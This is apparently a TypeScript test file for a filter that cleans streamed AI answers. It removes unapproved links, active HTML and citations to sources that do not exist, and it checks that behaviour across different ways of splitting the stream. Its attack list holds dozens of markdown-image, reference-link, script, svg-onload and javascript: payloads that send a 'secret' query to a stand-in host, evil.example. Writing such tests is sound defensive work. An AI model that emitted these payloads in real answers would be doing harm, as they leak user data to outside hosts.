import { describe, expect, it } from 'vitest';
import { AnswerTextFilter } from '../../../server/answers/answer-text-filter.ts';
import { activeParts } from './answer-fixtures.ts';
import { normaliseAddress } from '../../../server/answers/source-addresses.ts';
import { threadMilliseconds } from '../../support/thread-milliseconds.ts';

const known = ['https://docs.example/refunds', 'https://api.example/v3'];
const options = { citationCount: 9, addresses: new Set(known.map((address) => normaliseAddress(address))) };

function filter(text: string, pieceLength = text.length): { text: string; used: number[]; removed: string[] } {
  const filtering = new AnswerTextFilter(options);
  let out = '';
  for (let start = 0; start < text.length; start += Math.max(1, pieceLength)) {
    out += filtering.push(text.slice(start, start + pieceLength));
  }
  out += filtering.end();
  return { text: out, used: [...filtering.usedCitations], removed: [...filtering.removedCitations] };
}

const evil = 'https://evil.example/?q=secret';
const attacks = [
  `See ![x](${evil}).`,
  `See ![x][pixel].\n\n[pixel]: ${evil}`,
  `[click][1a]\n\n[1a]: <${evil}> "title"`,
  `[click](${evil})`,
  `[click](<${evil}>)`,
  `[click]( ${evil} "title (with) brackets")`,
  `[ref]:\n${evil}\n\n[ref]`,
  `[1](${evil})`,
  `[![inner](${evil})](${evil})`,
  `[a ![b](${evil}) c](${evil})`,
  `<img src="${evil}">`,
  `<IMG\nSRC=${evil}\nonerror=alert(1)>`,
  `<a href="${evil}">click</a>`,
  `<script>fetch("${evil}")</script>`,
  `<!-- --><svg onload=alert(1)>`,
  `<${evil}>`,
  evil,
  `(${evil})`,
  'www.evil.example/path',
  '[click](javascript:alert(1))',
  '[click](data:text/html,x)',
  '[click](//evil.example)',
  `\`unclosed ![x](${evil})`,
  `\`\`two \` one ![x](${evil})`,
  `text \`a\n\nb\` ![x](${evil})`,
  `> \`\`\`\n![x](${evil})`,
  `- item\n\n  \`\`\`\n![x](${evil})`,
  `1. item\n   \`\`\`\n![x](${evil})\n   \`\`\``,
  `\`\`\`js ![x](${evil})\ncode\n\`\`\``,
  `\`\`\`a\`b ![x](${evil})`,
  `~~~\ncode\n~~~\n![x](${evil})`,
  `\`\`\`\ncode\n\`\`\`\`\n![x](${evil})`,
  `[${'long '.repeat(300)}](${evil})`,
  `[short](${evil}${'y'.repeat(4_000)})`,
  `\\![x](${evil})`,
  `\\\\[x](${evil})`,
  `!\\[x](${evil})`,
  `[a\\](b)](${evil})`,
  `[x\n](${evil})`,
  `[x][\n]\n\n[x]: ${evil}`,
  `a [x]: ${evil}\n[x]`,
  `text\n[x]: ${evil}\n\n[x]`,
  `> [x]: ${evil}\n\n[x]`,
  `- [x]: ${evil}\n\n[x]`,
  `https://docs.example.evil.example/refunds`,
  `[x](https://docs.example/refunds?to=${encodeURIComponent(evil)})`,
  `| a |\n|---|\n| ![x](${evil}) |`,
  `**![x](${evil})** _[y](${evil})_`,
  `HTTPS://EVIL.EXAMPLE/x`,
];

describe('AnswerTextFilter: what it takes out', () => {
  it.each(attacks)('lets nothing act: %j', (attack) => {
    for (const piece of [attack.length, 1, 3, 7]) {
      const active = activeParts(filter(attack, piece).text);
      expect(active).toEqual([]);
    }
  });

  it('keeps the text of what it takes out', () => {
    expect(filter(`Read [the guide](${evil}) and ![a diagram](${evil}).`).text).toBe('Read the guide and a diagram.');
  });

  it('shows an unknown address without making it a link', () => {
    expect(filter(`Go to ${evil}.`).text).toBe(`Go to \`${evil}\`.`);
  });

  it('removes citations of sources that do not exist, with the space before them', () => {
    const result = filter('Use a key [1] [17], not a password [2, 12]. Done [0].');
    expect(result.text).toBe('Use a key [1], not a password [2]. Done.');
    expect(result.used).toEqual([1, 2]);
    expect(result.removed).toEqual(['[17]', '[12]', '[0]']);
  });

  it('writes grouped and ranged citations as single ones', () => {
    expect(filter('Use a key. [1]')).toMatchObject({ text: 'Use a key. [1]' });
    expect(filter('As said [1, 2][3] and [4-6].').text).toBe('As said [1][2][3] and [4][5][6].');
    expect(filter(`It returns [404](${known[0] ?? ''}) or [418](${evil}).`)).toMatchObject({
      text: `It returns [404](${known[0] ?? ''}) or 418.`,
      removed: [],
    });
  });
});

describe('AnswerTextFilter: what it leaves', () => {
  const harmless = [
    'Plain text with **bold**, _emphasis_ and `inline code`.',
    'A generic `List<String>` and a comparison 1 < 2 > 0.',
    'An array `items[17]` and a path `/v3/{id}`.',
    '```python\nrows[17] = fetch("https://evil.example/x")  # ![x](y)\n```\nAfter.',
    '1. Step:\n   ```bash\n   curl "$HOST" -d \'{"a":[12]}\'\n   ```\n2. Next.',
    '| a | b |\n|---|---|\n| `x` | 1 [2] |',
    'See [the guide](https://docs.example/refunds) and <https://api.example/v3> and https://docs.example/refunds.',
    '- [ ] open\n- [x] done',
    'Unclosed [bracket at the end',
    'Ends with a backtick `',
    'Escaped \\[1\\] and \\`.',
    'Ends in http',
    'Größe 返金 😀 — fine!',
  ];

  it.each(harmless.slice(0, 8))('passes %j', (text) => {
    expect(filter(text).text).toBe(text);
  });

  // Beyond the limits of what is held back, where a text is cut may show.
  it.each([...harmless, ...attacks].filter((text) => text.length < 1_000))(
    'decides the same however the text is cut: %j',
    (text) => {
      const whole = filter(text);
      for (const piece of [1, 2, 5, 11]) expect(filter(text, piece)).toEqual(whole);
    },
  );

  it('streams: ordinary text is not held back', () => {
    const filtering = new AnswerTextFilter(options);
    expect(filtering.push('Refunds are ')).toBe('Refunds are');
    expect(filtering.push('made with [')).toBe(' made with');
    expect(filtering.push('1')).toBe('');
    expect(filtering.push('] here')).toBe(' [1] here');
  });

  it('never holds back more than it must, even if nothing is ever closed', () => {
    const filtering = new AnswerTextFilter(options);
    let out = '';
    for (let index = 0; index < 5_000; index += 1) out += filtering.push('[word ');
    expect(out.length).toBeGreaterThan(20_000);
  });

  it('ends in good time on hostile input', () => {
    const started = threadMilliseconds();
    for (const hostile of ['[', '![', '`', '<', '(', '[](', '<a', 'http', '\\', '[1', '\n[a]: ']) {
      filter(hostile.repeat(20_000), 50);
    }
    expect(threadMilliseconds() - started).toBeLessThan(10_000);
  });
});
